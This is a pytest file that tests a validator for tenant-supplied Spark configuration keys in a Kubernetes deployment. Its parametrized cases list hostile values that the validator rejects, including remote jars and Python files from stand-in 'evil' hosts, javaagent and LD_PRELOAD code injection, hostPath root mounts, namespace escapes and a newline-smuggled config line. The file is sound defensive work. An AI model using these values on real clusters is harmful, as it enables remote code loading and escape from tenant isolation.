"""``spec.spark.sparkConf``: what a tenant may set."""

from __future__ import annotations

from typing import Any

import pytest

from lading_spec.compaction import parse_compaction
from lading_spec.copyjob import parse_copyjob
from lading_spec.errors import SpecError
from lading_spec.sparkconf import SANDBOX_CONF, is_safe, parse_spark_conf
from lading_spec.streamcopy import parse_streamcopy


def test_values_become_strings_sorted() -> None:
    assert parse_spark_conf({"spark.sql.shuffle.partitions": 8, "spark.sql.adaptive.enabled": "true"}) == \
        {"spark.sql.adaptive.enabled": "true", "spark.sql.shuffle.partitions": "8"}
    assert parse_spark_conf(None) == {}


@pytest.mark.parametrize("key", sorted(SANDBOX_CONF))
def test_sandbox_settings_cannot_be_turned_back_on(key: str) -> None:
    with pytest.raises(SpecError) as info:
        parse_spark_conf({key: " True "})
    assert info.value.field == f"spark.sparkConf.{key}" and "remove the key" in info.value.message
    assert parse_spark_conf({key: "false"}) == {key: "false"}


def test_not_a_mapping() -> None:
    with pytest.raises(SpecError, match="spark.sparkConf"):
        parse_spark_conf(["spark.x=1"])


@pytest.mark.parametrize(("key", "value", "needle"), [
    ("spark.kubernetes.namespace", "kube-system", "another namespace"),
    ("spark.Kubernetes.Namespace", "kube-system", "another namespace"),
    ("spark.kubernetes.authenticate.driver.serviceAccountName", "admin", "spec.spark.serviceAccount"),
    ("spark.kubernetes.driver.secrets.other-team", "/mnt", "spec.connection.secretRef"),
    ("spark.kubernetes.executor.secretKeyRef.AWS_SECRET_ACCESS_KEY", "other:key", "spec.connection.secretRef"),
    ("spark.kubernetes.container.image", "evil/x:1", "set spec.spark.image instead"),
    ("spark.executor.instances", "100", "set spec.spark.executor.instances instead"),
    ("spark.kubernetes.driver.podTemplateFile", "/tmp/pod.yaml", "pod template"),
    ("spark.kubernetes.executor.volumes.hostPath.root.options.path", "/", "node's filesystem"),
    ("spark.jars", "local:///opt/a.jar,https://evil.example/x.jar", "'https://evil.example/x.jar'"),
    ("spark.files", "s3a://bucket/x", "only local://"),
    ("spark.submit.pyFiles", "http://evil/x.py", "only local://"),
    ("spark.jars.packages", "org.evil:x:1", "downloads code"),
    ("spark.pyspark.python", "/tmp/python", "another Python"),
    ("spark.driver.extraJavaOptions", "-XX:+UseG1GC -javaagent:/tmp/a.jar", "'-javaagent:/tmp/a.jar'"),
    ("spark.executor.extraJavaOptions", "-Dspark.kubernetes.namespace=x", "'-Dspark.kubernetes.namespace=x'"),
    ("spark.driver.extraJavaOptions", "-XX:OnOutOfMemoryError='kill -9 1'", "-XX:OnOutOfMemoryError"),
    ("spark.driver.extraJavaOptions", "-Dlog4j2.configurationFile=http://evil/l.xml", "-Dlog4j2"),
    ("spark.driver.extraJavaOptions", "@/tmp/args", "'@/tmp/args'"),
    ("spark.kubernetes.driverEnv.AWS_ENDPOINT_URL", "http://evil", "identity, endpoints"),
    ("spark.executorEnv.JAVA_TOOL_OPTIONS", "-javaagent:/x.jar", "loads code"),
    ("spark.kubernetes.driverEnv.LD_PRELOAD", "/tmp/x.so", "loads code"),
    ("spark.hadoop.fs.s3a.access.key", "x", "not used by lading"),
    ("spark.kubernetes.namespace=kube-system#", "x", "no '='"),
    ("spark.app.name", "line\nspark.kubernetes.namespace=x", "line breaks"),
    ("hive.metastore.uris", "thrift://x", "spark. followed by"),
])
def test_never_allowed_names_the_key_and_the_fix(key: str, value: str, needle: str) -> None:
    with pytest.raises(SpecError) as info:
        parse_spark_conf({key: value})
    assert info.value.field == f"spark.sparkConf.{key}"
    assert needle in info.value.message, info.value.message


@pytest.mark.parametrize(("key", "value"), [
    ("spark.sql.shuffle.partitions", "8"),
    ("spark.kubernetes.driver.annotation.example.com/team", "a"),  # not never: the policy decides
    ("spark.jars", "local:///opt/extra/a.jar, local:///opt/extra/b.jar"),
    ("spark.driver.extraJavaOptions", "-XX:+UseG1GC -Duser.timezone=UTC -Xss4m"),
    ("spark.kubernetes.driverEnv.TEAM", "data"),
])
def test_not_never_allowed(key: str, value: str) -> None:
    assert parse_spark_conf({key: value}) == {key: value}


@pytest.mark.parametrize(("key", "safe"), [
    ("spark.sql.shuffle.partitions", True), ("spark.sql.adaptive.coalescePartitions.enabled", True),
    ("spark.executor.memoryOverhead", True), ("spark.dynamicAllocation.maxExecutors", True),
    ("spark.sql.parquet.output.committer.class", False), ("spark.sql.adaptive.customCostEvaluatorClass", False),
    ("spark.plugins", False), ("spark.sql.extensions", False), ("spark.sql.catalog.evil", False),
    ("spark.kubernetes.driver.annotation.x", False), ("spark.driver.extraJavaOptions", False),
    ("spark.eventLog.dir", False), ("spark.ui.filters", False), ("spark.lading.unload.path", True),
])
def test_safe_list(key: str, safe: bool) -> None:
    assert is_safe(key) is safe


@pytest.mark.parametrize(("parser", "spec"), [
    (parse_copyjob, {"from": {"query": "SELECT 1"}, "to": {"files": "s3://bkt/o/"}}),
    (parse_compaction, {"table": "s3://bkt/t/"}),
    (parse_streamcopy, {"source": {"kafka": {"bootstrapServers": ["k:9092"], "topics": ["t"]}},
                        "target": {"table": "s3://bkt/t/"}}),
])
def test_every_kind_refuses_never_allowed_keys_early(parser: Any, spec: dict[str, Any]) -> None:
    bad = {**spec, "spark": {"sparkConf": {"spark.kubernetes.authenticate.driver.serviceAccountName": "admin"}}}
    with pytest.raises(SpecError) as info:
        parser(bad)
    assert info.value.field == "spark.sparkConf.spark.kubernetes.authenticate.driver.serviceAccountName"
    parser({**spec, "spark": {"sparkConf": {"spark.sql.shuffle.partitions": "8"}}})
